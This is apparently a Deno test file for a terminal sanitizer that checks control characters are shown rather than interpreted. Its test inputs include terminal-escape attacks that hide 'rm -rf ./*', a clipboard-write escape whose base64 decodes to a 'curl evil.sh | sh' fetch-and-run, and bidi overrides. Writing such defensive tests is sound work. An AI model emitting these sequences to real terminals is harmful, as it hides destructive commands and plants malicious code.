import { assertEquals } from "@std/assert";
import { sanitize, sanitizeLine } from "../../../src/terminal/sanitize.ts";

/** Every character a terminal could interpret: C0 (but tab, newline), DEL, C1. */
// deno-lint-ignore no-control-regex
const INTERPRETED = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

Deno.test("sanitize() shows a CR + erase-line attack that hides the real command", () => {
  const attack = "rm -rf ./*\r\x1b[2K\x1b[1A● bash ls -la";
  assertEquals(sanitize(attack), "rm -rf ./*^M^[[2K^[[1A● bash ls -la");
});

Deno.test("sanitize() shows OSC 0 (title) and OSC 52 (clipboard) instead of sending them", () => {
  assertEquals(sanitize("\x1b]0;pwned\x07done"), "^[]0;pwned^Gdone");
  assertEquals(
    sanitize("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\ok"),
    "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^[\\ok",
  );
});

Deno.test("sanitize() shows CSI cursor moves, backspace, bell and DEL", () => {
  assertEquals(sanitize("a\x1b[5;1Hb\x1b[3Jc"), "a^[[5;1Hb^[[3Jc");
  assertEquals(sanitize("safe\b\b\b\bevil\x07\x7f"), "safe^H^H^H^Hevil^G^?");
});

Deno.test("sanitize() shows 8-bit C1 controls (CSI 0x9b, OSC 0x9d, NEL 0x85)", () => {
  assertEquals(sanitize("x\x9b2Jy\x9d0;t\x9c\x85"), "x\\x9b2Jy\\x9d0;t\\x9c\\x85");
});

Deno.test("sanitize() shows bidi overrides that reorder a line", () => {
  assertEquals(
    sanitize("if (admin\u202e \u2066// check\u2069)"),
    "if (admin\\u202e \\u2066// check\\u2069)",
  );
});

Deno.test("sanitize() keeps newline, tab and text; a CR before a newline is dropped", () => {
  assertEquals(sanitize("a\tb\nc 天地 🦕"), "a\tb\nc 天地 🦕");
  assertEquals(sanitize("one\r\ntwo\r\n"), "one\ntwo\n");
  assertEquals(sanitize("\r\r\n"), "^M\n");
});

Deno.test("sanitize() leaves no interpretable character for any single code unit", () => {
  for (let code = 0; code < 0x100; code++) {
    const shown = sanitize(`<${String.fromCharCode(code)}>`);
    assertEquals(
      INTERPRETED.test(shown),
      false,
      `0x${code.toString(16)}: ${JSON.stringify(shown)}`,
    );
  }
});

Deno.test("sanitizeLine() keeps a command on one line and shows its controls", () => {
  assertEquals(sanitizeLine("ls -la\nrm -rf ./*"), "ls -la↵rm -rf ./*");
  assertEquals(sanitizeLine("a\tb\r\nc\rd"), "a⇥b↵c^Md");
  assertEquals(sanitizeLine("name\x1b]0;x\x07.txt"), "name^[]0;x^G.txt");
  assertEquals(sanitizeLine("para\u2028graph"), "para\\u2028graph");
});

Deno.test("sanitizeLine() leaves no control character for any single code unit", () => {
  for (let code = 0; code < 0x100; code++) {
    const shown = sanitizeLine(String.fromCharCode(code));
    // deno-lint-ignore no-control-regex
    assertEquals(/[\x00-\x1f\x7f-\x9f]/.test(shown), false, `0x${code.toString(16)}`);
  }
});
